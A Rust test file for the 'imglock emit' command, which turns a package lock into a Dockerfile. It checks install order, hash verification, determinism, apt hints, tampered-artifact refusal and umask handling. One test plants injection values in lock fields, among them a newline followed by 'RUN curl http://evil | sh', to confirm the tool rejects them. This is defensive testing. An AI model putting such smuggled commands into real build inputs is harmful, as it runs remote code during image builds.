//! `imglock emit`: the Dockerfile's text, its determinism, and how its steps change with the lock.
//! (The real image builds are in `image_build.rs`.)

use crate::support;
use crate::support::{Project, Server, fixtures, spec, stderr};

/// The `RUN` instructions of a Dockerfile, each as one string (comments dropped).
fn run_steps(dockerfile: &str) -> Vec<String> {
    let mut steps = Vec::new();
    let mut current: Option<String> = None;
    for line in dockerfile.lines() {
        if line.starts_with("RUN ") {
            current = Some(String::new());
        }
        if let Some(step) = current.as_mut() {
            step.push_str(line);
            step.push('\n');
            if !line.ends_with('\\') {
                steps.push(current.take().unwrap());
            }
        }
    }
    steps
}

fn resolve_and_emit(project: &Project, out: &str) -> String {
    let output = project.run(&["resolve"]);
    assert!(output.status.success(), "{}", stderr(&output));
    let output = project.run(&["emit", "--out", out]);
    assert!(output.status.success(), "{}", stderr(&output));
    std::fs::read_to_string(project.path(out).join("Dockerfile")).unwrap()
}

const LAYERS: &str = "[[layer]]\nname = \"r\"\ncran = [\"plotkit\", \"usehdr\"]\n\n[[layer]]\nname = \"bio\"\nbioconductor = [\"SeqTools\"]";

#[test]
fn every_locked_package_is_installed_once_verified_and_after_its_dependencies() {
    let server = Server::start(&fixtures());
    let repos = format!(
        "cran = [\"{0}/cran\"]\nbioconductor = \"{0}/bioc\"",
        server.url()
    );
    let project = Project::new(&spec(&repos, LAYERS));
    let dockerfile = resolve_and_emit(&project, "build");
    let lock: toml::Value = toml::from_str(&project.lock().unwrap()).unwrap();
    let base = lock["image"]["base"].as_str().unwrap();
    assert!(dockerfile.contains(&format!("\nFROM {base}\n")));

    // The order in which packages are installed.
    let mut installed: Vec<String> = Vec::new();
    for line in dockerfile
        .lines()
        .filter(|l| l.trim_start().starts_with("imglock-r-install "))
    {
        let words: Vec<&str> = line.split_whitespace().collect();
        installed.push(words[1].to_string());
    }
    let mut count = 0;
    for layer in lock["layer"].as_array().unwrap() {
        for package in layer["package"].as_array().unwrap() {
            count += 1;
            let name = package["name"].as_str().unwrap();
            let install = format!(
                "imglock-r-install {name} {} {} {}",
                package["version"].as_str().unwrap(),
                package["sha256"].as_str().unwrap(),
                package["url"].as_str().unwrap()
            );
            assert_eq!(
                dockerfile.matches(&install).count(),
                1,
                "{install} is not in\n{dockerfile}"
            );
            let position = installed.iter().position(|n| n == name).unwrap();
            for dependency in package["dependencies"].as_array().unwrap() {
                let dependency = dependency.as_str().unwrap();
                let before = installed.iter().position(|n| n == dependency).unwrap();
                assert!(
                    before < position,
                    "{dependency} must be installed before {name}"
                );
            }
        }
    }
    assert_eq!(
        installed.len(),
        count,
        "nothing is installed that is not locked"
    );
    // Each layer's section comes in lock order, and the installer verifies every download.
    assert!(dockerfile.find("layer `r`").unwrap() < dockerfile.find("layer `bio`").unwrap());
    assert!(dockerfile.contains("sha256sum -c --status"));
    assert!(dockerfile.contains("--mount=type=cache,target=/var/cache/imglock"));

    // The same lock gives the same bytes.
    let output = project.run(&["emit", "--out", "again"]);
    assert!(output.status.success());
    assert_eq!(
        std::fs::read_to_string(project.path("again/Dockerfile")).unwrap(),
        dockerfile
    );
}

#[test]
fn adding_a_leaf_changes_only_the_last_r_step_of_its_layer() {
    let server = Server::start(&fixtures());
    let repos = format!(
        "cran = [\"{0}/cran\"]\nbioconductor = \"{0}/bioc\"",
        server.url()
    );
    let project = Project::new(&spec(&repos, LAYERS));
    let before = run_steps(&resolve_and_emit(&project, "before"));
    // leafy depends on plotkit (already locked, and itself requested): a leaf of layer `bio`.
    project.write_spec(&spec(
        &repos,
        &LAYERS.replace("[\"SeqTools\"]", "[\"SeqTools\"]\ncran = [\"leafy\"]"),
    ));
    let after = run_steps(&resolve_and_emit(&project, "after"));
    assert_eq!(before.len(), after.len());
    let last = after.len() - 1;
    assert_eq!(
        before[..last],
        after[..last],
        "only the last step may change"
    );
    assert_ne!(before[last], after[last]);
    assert!(after[last].contains("imglock-r-install leafy 0.2.0"));
}

#[test]
fn upgrading_a_package_keeps_every_step_before_it() {
    let server = Server::start(&fixtures());
    let repos = format!(
        "cran = [\"{0}/cran\"]\nbioconductor = \"{0}/bioc\"",
        server.url()
    );
    let project = Project::new(&spec(&repos, LAYERS));
    let before = run_steps(&resolve_and_emit(&project, "before"));
    // An upgrade of fastsum, as the lock records it: a new version, URL and hash.
    let lock = project.lock().unwrap();
    let upgraded = lock
        .replace("fastsum_0.3.1.tar.gz", "fastsum_0.4.0.tar.gz")
        .replace("version = \"0.3.1\"", "version = \"0.4.0\"");
    let sha = upgraded
        .split("name = \"fastsum\"")
        .nth(1)
        .unwrap()
        .split("sha256 = \"")
        .nth(1)
        .unwrap()[..64]
        .to_string();
    let upgraded = upgraded.replace(&sha, &"f".repeat(64));
    std::fs::write(project.path("imglock.lock"), upgraded).unwrap();
    let output = project.run(&["emit", "--out", "after"]);
    assert!(output.status.success(), "{}", stderr(&output));
    let after = run_steps(&std::fs::read_to_string(project.path("after/Dockerfile")).unwrap());
    let first = before
        .iter()
        .position(|s| s.contains("imglock-r-install fastsum"))
        .unwrap();
    assert!(
        first > 1,
        "fastsum is not in the first steps, so the test means something"
    );
    assert_eq!(before[..first], after[..first]);
    assert_ne!(before[first], after[first]);
    assert!(after[first].contains(&format!("fastsum 0.4.0 {}", "f".repeat(64))));
}

/// `--apt` installs nothing unpinned: it suggests (under `--verbose`) the `apt` entries the
/// packages' SystemRequirements call for, and names the parts no rule maps.
#[test]
fn apt_suggests_mapped_build_dependencies_and_names_the_rest() {
    let server = Server::start(&fixtures());
    let project = Project::new(&spec(
        &format!("cran = [\"{}/cran\"]", server.url()),
        "[[layer]]\nname = \"r\"\ncran = [\"usehdr\"]",
    ));
    assert!(project.run(&["resolve"]).status.success());
    let output = project.run(&[
        "emit",
        "--out",
        "build",
        "--apt",
        "--verbose",
        "--library",
        "/opt/R/library",
        "--ncpus",
        "4",
    ]);
    assert!(output.status.success(), "{}", stderr(&output));
    let dockerfile = std::fs::read_to_string(project.path("build/Dockerfile")).unwrap();
    assert!(!dockerfile.contains("apt-get"), "{dockerfile}");
    // fastsum: zlib; usehdr: libxml2 (>= 2.6.3), GNU make.
    assert!(
        stderr(&output).contains(
            "layer `r`: the SystemRequirements of fastsum, usehdr name Debian packages no layer up to it locks; unless the base image has them, add `apt = [\"libxml2-dev\", \"zlib1g-dev\"]` to this layer or one below it in the spec"
        ),
        "{}",
        stderr(&output)
    );
    assert!(
        stderr(&output).contains("usehdr: no apt rule for `GNU make`"),
        "{}",
        stderr(&output)
    );
    assert!(dockerfile.contains("IMGLOCK_R_LIBRARY=/opt/R/library"));
    assert!(dockerfile.contains("IMGLOCK_R_MAKE_JOBS=4"));
    let quiet = project.run(&["emit", "--out", "quiet", "--apt"]);
    assert!(quiet.status.success());
    assert!(!stderr(&quiet).contains("apt = ["), "{}", stderr(&quiet));
}

#[test]
fn file_repositories_put_verified_artifacts_in_the_build_context() {
    let copy = support::fixture_copy();
    let project = Project::new(&spec(
        &format!("cran = [\"file://{}/cran\"]", copy.path().display()),
        "[[layer]]\nname = \"r\"\ncran = [\"fastsum\"]",
    ));
    let dockerfile = resolve_and_emit(&project, "build");
    assert!(dockerfile.contains("context:imglock-artifacts/fastsum_0.3.1.tar.gz"));
    assert!(dockerfile.contains("--mount=type=bind,target=/imglock-context"));
    let copied =
        std::fs::read(project.path("build/imglock-artifacts/fastsum_0.3.1.tar.gz")).unwrap();
    assert_eq!(
        copied,
        std::fs::read(copy.path().join("cran/src/contrib/fastsum_0.3.1.tar.gz")).unwrap()
    );

    // A file that changed since the lock was written is refused.
    std::fs::write(
        copy.path().join("cran/src/contrib/corekit_1.1-2.tar.gz"),
        b"other bytes",
    )
    .unwrap();
    let output = project.run(&["emit", "--out", "tampered"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(
        stderr(&output).contains("corekit_1.1-2.tar.gz")
            && stderr(&output).contains("the lock says sha256"),
        "{}",
        stderr(&output)
    );
    assert!(!project.path("tampered/Dockerfile").exists());
}

#[test]
fn emit_without_a_lock_says_so() {
    let project = Project::new(&spec("", "[[layer]]\nname = \"r\""));
    let output = project.run(&["emit"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(
        stderr(&output).contains("cannot read the lock `imglock.lock`"),
        "{}",
        stderr(&output)
    );
}

#[test]
fn the_specs_r_library_is_locked_and_used_by_emit() {
    let server = Server::start(&fixtures());
    let text = spec(
        &format!("cran = [\"{}/cran\"]", server.url()),
        "[[layer]]\nname = \"r\"\ncran = [\"corekit\"]",
    )
    .replace(
        "r = \"4.2.2\"",
        "r = \"4.2.2\"\nr-library = \"/opt/R/library\"",
    );
    let project = Project::new(&text);
    let dockerfile = resolve_and_emit(&project, "build");
    assert!(
        project
            .lock()
            .unwrap()
            .contains("r-library = \"/opt/R/library\"\n")
    );
    assert!(
        dockerfile.contains("IMGLOCK_R_LIBRARY=/opt/R/library"),
        "{dockerfile}"
    );
    let output = project.run(&["emit", "--out", "override", "--library", "/srv/R"]);
    assert!(output.status.success());
    let overridden = std::fs::read_to_string(project.path("override/Dockerfile")).unwrap();
    assert!(overridden.contains("IMGLOCK_R_LIBRARY=/srv/R"));

    project.write_spec(&text.replace("/opt/R/library", "opt/R/library"));
    let output = project.run(&["resolve"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(
        stderr(&output).contains("must be an absolute path"),
        "{}",
        stderr(&output)
    );
}

/// Paths from a lock reach the Dockerfile's comments and `RUN` lines: one that would end the line
/// (a line break) is refused when the lock is read, and one with a space is quoted.
#[test]
fn image_paths_from_the_lock_are_checked_and_quoted() {
    let work = support::resolved_mixed_example();
    let lock = work.path().join("imglock.lock");
    let run = |args: &[&str]| support::run_in(work.path(), args);
    let text = std::fs::read_to_string(&lock).unwrap();

    for (from, to) in [
        (
            "maven-target = \"/opt/jars\"",
            "maven-target = \"/opt/jars\\nRUN curl http://evil | sh\"",
        ),
        (
            "conda-prefix = \"/opt/conda\"",
            "conda-prefix = \"/opt/conda\\nRUN id\"",
        ),
        ("name = \"jars\"", "name = \"jars\\nRUN id\""),
        // Jars with nowhere to go.
        ("maven-target = \"/opt/jars\"\n", ""),
    ] {
        assert!(text.contains(from), "{from}");
        std::fs::write(&lock, text.replace(from, to)).unwrap();
        let output = run(&["emit", "--lock", "imglock.lock", "--out", "bad"]);
        assert_eq!(output.status.code(), Some(2), "{to}: {}", stderr(&output));
        assert!(
            stderr(&output).contains("is not a valid imglock lock"),
            "{}",
            stderr(&output)
        );
        assert!(!work.path().join("bad/Dockerfile").exists());
    }

    let spaced = text
        .replace(
            "maven-target = \"/opt/jars\"",
            "maven-target = \"/opt/my jars\"",
        )
        .replace(
            "conda-prefix = \"/opt/conda\"",
            "conda-prefix = \"/opt/my conda\"",
        );
    std::fs::write(&lock, spaced).unwrap();
    let output = run(&["emit", "--lock", "imglock.lock", "--out", "good"]);
    assert!(output.status.success(), "{}", stderr(&output));
    let dockerfile = std::fs::read_to_string(work.path().join("good/Dockerfile")).unwrap();
    assert!(
        dockerfile.contains("mkdir -p '/opt/my jars'; cd '/opt/my jars'"),
        "{dockerfile}"
    );
    assert!(
        dockerfile.contains("micromamba install -y -p '/opt/my conda' -f"),
        "{dockerfile}"
    );
}

/// The files imglock writes for the user (the lock, the Dockerfile, artifacts copied into the
/// build context) get `0666` less the umask, as `touch` or an editor would leave them, so a
/// build that runs as another user can read them; and no temporary file is left beside them.
#[test]
fn written_files_honour_the_umask() {
    use std::os::unix::fs::PermissionsExt;
    let spec = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("examples/mixed-fixture/imglock.toml");
    for (umask, expected) in [("027", 0o640), ("002", 0o664)] {
        let work = tempfile::tempdir().unwrap();
        let run = |args: &str| {
            std::process::Command::new("sh")
                .arg("-c")
                .arg(format!("umask {umask}; exec \"$0\" {args}"))
                .arg(env!("CARGO_BIN_EXE_imglock"))
                .current_dir(work.path())
                .env("IMGLOCK_CACHE_DIR", work.path().join("cache"))
                .output()
                .unwrap()
        };
        let output = run(&format!(
            "resolve --spec '{}' --lock imglock.lock",
            spec.display()
        ));
        assert!(output.status.success(), "{}", stderr(&output));
        let output = run("emit --lock imglock.lock --out out");
        assert!(output.status.success(), "{}", stderr(&output));
        let mode =
            |path: &std::path::Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
        let mut written = vec![work.path().join("imglock.lock")];
        for entry in support::walk(&work.path().join("out")) {
            written.push(entry);
        }
        assert!(written.len() > 2, "{written:?}");
        for path in &written {
            assert_eq!(mode(path), expected, "umask {umask}: {}", path.display());
        }
        let leftovers: Vec<_> = std::fs::read_dir(work.path())
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .filter(|name| name.contains(".tmp"))
            .collect();
        assert!(leftovers.is_empty(), "{leftovers:?}");
    }
}
